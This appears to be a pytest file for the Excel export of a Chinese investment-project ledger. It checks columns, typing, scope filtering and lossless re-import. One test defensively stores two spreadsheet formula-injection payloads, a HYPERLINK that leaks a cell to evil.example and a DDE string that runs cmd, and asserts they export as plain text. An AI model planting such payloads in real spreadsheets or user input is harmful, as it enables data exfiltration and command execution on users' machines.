"""Export to Excel: the workbook contract's columns, the same filters and scope as the page,
no formulas from user text, and export → import changes nothing (or only what was edited)."""

from __future__ import annotations

import io
from datetime import date
from decimal import Decimal

import openpyxl

from zhaoshang.ledger.models import (
    Enterprise,
    EnterpriseTag,
    FollowUp,
    FundsEntry,
    Project,
    StageEvent,
)
from zhaoshang.ledger.services import ProjectData, do_save_project
from zhaoshang.workbook import schema
from zhaoshang.workbook.loader import load_workbook


def _export(client, query="") -> openpyxl.Workbook:
    response = client.get(f"/ledger/projects/export.xlsx{query}")
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert "attachment" in response["Content-Disposition"]
    return openpyxl.load_workbook(io.BytesIO(response.content))


def _rows(sheet) -> list[dict]:
    header = [c.value.rstrip("*") for c in sheet[1]]
    return [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(2)]


def _world() -> tuple:
    """Every count an import could change, history included."""
    return (
        Project.objects.count(),
        Project.history.count(),
        tuple(Project.objects.order_by("code").values_list("code", "version")),
        StageEvent.objects.count(),
        Enterprise.objects.count(),
        Enterprise.history.count(),
        EnterpriseTag.objects.count(),
        EnterpriseTag.history.count(),
        FundsEntry.objects.count(),
        FundsEntry.history.count(),
        FollowUp.objects.count(),
    )


def test_columns_are_those_of_the_workbook_contract(client_for):
    book = _export(client_for("admin"))
    assert book.sheetnames == ["项目", "客商", "到位资金"]
    project_header = [c.value for c in book["项目"][1]]
    assert project_header == [c.name + ("*" if c.required else "") for c in schema.PROJECTS.columns]
    assert [c.value.rstrip("*") for c in book["客商"][1]] == list(schema.ENTERPRISES.column_names)
    assert [c.value.rstrip("*") for c in book["到位资金"][1]] == list(schema.FUNDS.column_names)


def test_values_are_typed_as_the_loader_reads_them(client_for):
    rows = {r["项目编号"]: r for r in _rows(_export(client_for("admin"))["项目"])}
    kl1 = rows["KL-001"]
    assert kl1["项目名称"] == "新能源电池材料生产线项目"
    assert kl1["责任单位编码"] == "522601"  # a code stays text: leading zeros survive
    assert kl1["投资方"] == "华岳新能源控股集团有限公司"
    assert kl1["责任人"] == "王明"
    assert kl1["所在园区"] == "凯里市产业园"
    assert (kl1["是否工业项目"], kl1["是否重点项目"]) == ("是", "是")
    assert kl1["合同投资额(万元)"] == 30000
    assert kl1["计划总投资(万元)"] == 50000
    assert kl1["项目阶段"] == "合同"
    assert kl1["签约日期"].date() == date(2026, 10, 25)
    assert kl1["合同签订日期"].date() == date(2026, 11, 5)
    assert kl1["状态"] == "正常"
    assert rows["KL-002"]["配合单位编码"] == "522600-TC"


def test_export_follows_the_filters_and_the_scope(client_for):
    rows = _rows(_export(client_for("admin"), "?stage=4&sort=-amount")["项目"])
    assert [r["项目编号"] for r in rows] == ["KF-001", "KL-001", "LP-001", "LP-003"]
    rows = _rows(_export(client_for("r522601"))["项目"])
    assert [r["项目编号"] for r in rows] == ["KL-001", "KL-002", "KL-003"]
    investors = [r["企业名称"] for r in _rows(_export(client_for("r522601"))["客商"])]
    assert "黔东南苗岭农业发展有限公司" not in investors
    assert _rows(_export(client_for("outsider"))["项目"]) == []


def test_invalid_filter_exports_nothing_and_says_so(client_for):
    response = client_for("admin").get("/ledger/projects/export.xlsx?amount_min=很多")
    assert response.status_code == 302


def test_user_text_never_becomes_a_formula(client_for, personas):
    project = personas.projects["LP-002"]
    nasty = {
        "name": '=HYPERLINK("http://evil.example/?"&A1,"点此")',
        "note": "+cmd|' /C calc'!A0",
    }
    do_save_project(
        project.code,
        ProjectData(
            name=nasty["name"],
            responsible_unit=project.responsible_unit,
            stage=project.stage,
            stage_dates={3: project.signed_on},
            planned_investment=project.planned_investment,
            note=nasty["note"],
        ),
    )
    book = _export(client_for("admin"))
    sheet = book["项目"]
    header = [c.value.rstrip("*") for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(2) if r[0].value == "LP-002")
    name_cell = row[header.index("项目名称")]
    note_cell = row[header.index("备注")]
    for cell, expected in ((name_cell, nasty["name"]), (note_cell, nasty["note"])):
        assert cell.data_type == "s"  # a string, not "f" (formula)
        assert cell.value == expected  # exactly what was typed
        assert cell.quotePrefix  # and Excel keeps it text if someone edits the cell


def test_export_then_import_changes_nothing(client_for, personas, tmp_path):
    # Make the ledger a little harder: a dropped project, a note, a second investor.
    do_save_project(
        "LP-004",
        ProjectData(
            name="已终止的项目",
            responsible_unit=personas.units["522631"],
            stage=2,
            dropped_on=date(2026, 11, 1),
            drop_reason="企业撤资",
            note="第一行\n第二行",
            investors=list(Enterprise.objects.all()),
        ),
    )
    response = client_for("admin").get("/ledger/projects/export.xlsx")
    path = tmp_path / "导出.xlsx"
    path.write_bytes(response.content)
    before = _world()
    result = load_workbook(path)
    assert result.errors == []
    assert {sheet: c.as_dict() for sheet, c in result.counts.items()} == {
        "客商": {"created": 0, "updated": 0, "unchanged": 3},
        "项目": {"created": 0, "updated": 0, "unchanged": 9},
        "到位资金": {"created": 0, "updated": 0, "unchanged": 1},
    }
    assert _world() == before


def test_round_trip_as_a_county_reporter_through_their_own_scope(client_for, personas, tmp_path):
    path = tmp_path / "凯里.xlsx"
    path.write_bytes(client_for("r522601").get("/ledger/projects/export.xlsx").content)
    before = _world()
    result = load_workbook(path, actor=personas.users["r522601"])
    assert result.errors == []
    assert result.counts["项目"].as_dict() == {"created": 0, "updated": 0, "unchanged": 3}
    assert _world() == before


def test_edited_export_changes_only_what_was_edited(client_for, personas, tmp_path):
    content = client_for("admin").get("/ledger/projects/export.xlsx").content
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheet = book["项目"]
    header = [c.value.rstrip("*") for c in sheet[1]]
    for row in sheet.iter_rows(2):
        if row[0].value == "LP-001":
            row[header.index("合同投资额(万元)")].value = "1.2亿"
    path = tmp_path / "改过的.xlsx"
    book.save(path)
    history_before = Project.history.count()
    result = load_workbook(path, actor=personas.users["admin"])
    assert result.errors == []
    assert result.counts["项目"].as_dict() == {"created": 0, "updated": 1, "unchanged": 7}
    assert Project.objects.get(code="LP-001").contract_amount == Decimal("12000")
    assert Project.history.count() == history_before + 1


def test_export_writes_the_contract_words_whatever_the_page_language(client_for, settings):
    client = client_for("admin")
    # The user switched the pages to English: the file still speaks the contract's Chinese.
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    response = client.get("/ledger/projects/export.xlsx")
    assert response["Content-Language"] == "en"
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["项目"]
    rows = {r["项目编号"]: r for r in _rows(sheet)}
    assert (rows["KL-001"]["项目阶段"], rows["KL-001"]["状态"]) == ("合同", "正常")
    assert rows["KL-001"]["是否工业项目"] == "是"
